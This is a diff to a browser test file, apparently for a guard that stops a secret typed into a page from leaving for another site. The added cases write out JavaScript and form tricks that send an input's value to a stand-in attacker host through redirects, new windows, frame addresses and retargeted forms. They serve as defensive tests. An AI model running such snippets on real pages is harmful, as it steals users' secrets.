@@ -144,7 +144,23 @@ AWAY = {
     "a form": lambda page: page.locator("button").click(),
     "a script": lambda page: page.evaluate(f"location.href = '{EVIL}/?' + document.querySelector('input').value"),
     "a window": lambda page: page.evaluate(f"window.open('{EVIL}/?' + document.querySelector('input').value) && 0"),
+    "a window without opener": lambda page: page.evaluate(
+        f"window.open('{EVIL}/?' + document.querySelector('input').value, '_blank', 'noopener') && 0"
+    ),
+    "a form into a frame": lambda page: _send_into(page, "inner", "post"),
+    "a form into a frame, in the address": lambda page: _send_into(page, "inner", "get"),
+    "a form into a new window": lambda page: _send_into(page, "_blank", "post"),
+    "a form with files into a frame": lambda page: _send_into(page, "inner", "post", "multipart/form-data"),
+    "an address of a frame": lambda page: page.evaluate(
+        f"document.querySelector('iframe').src = '{EVIL}/?' + encodeURIComponent(document.querySelector('input').value)"
+    ),
 }
+
+
+def _send_into(page: Page, target: str, method: str, encoding: str = "application/x-www-form-urlencoded") -> None:
+    changed = {"target": target, "method": method, "enctype": encoding}
+    page.locator("form").evaluate("(form, changed) => Object.assign(form, changed)", changed)
+    page.locator("button").click()
 
 
 def _leave(page: Page, way: str) -> None:
@@ -155,8 +171,8 @@ def _leave(page: Page, way: str) -> None:
 
 @pytest.mark.parametrize("way", AWAY)
 def test_a_page_with_a_secret_goes_nowhere_else(page: Page, world: World, way: str) -> None:
-    """A form, a script or a new window that would carry the secret off is stopped before anything is sent."""
-    world.pages[f"{APP}/"] = FIELD.format(action=f"{EVIL}/", target="_self")
+    """A form, a script, a frame or a window that would carry the secret off is stopped before anything is sent."""
+    world.pages[f"{APP}/"] = FIELD.format(action=f"{EVIL}/", target="_self") + "<iframe name=inner></iframe>"
     page.goto(f"{APP}/")
     session = session_on(page)
     session.fill_secret(page.locator("input"), TOKEN)
@@ -205,6 +221,12 @@ def test_frames_and_parts_of_the_page_may_come_from_elsewhere(page: Page, world:
       const frame = document.createElement('iframe');
       frame.onload = loaded; frame.src = '{EVIL}/frame'; document.body.append(frame);
     }})""")
+    inner = next(each for each in page.frames if each.url.startswith(EVIL))
+    with page.expect_request(f"{EVIL}/own"):
+        inner.evaluate(
+            "const form = document.createElement('form'); form.method = 'post'; form.action = '/own';"
+            "document.body.append(form); form.submit()"
+        )
     session.require_held()
     assert {f"{EVIL}/data", f"{EVIL}/frame"} <= {url for url, _ in world.received}
 
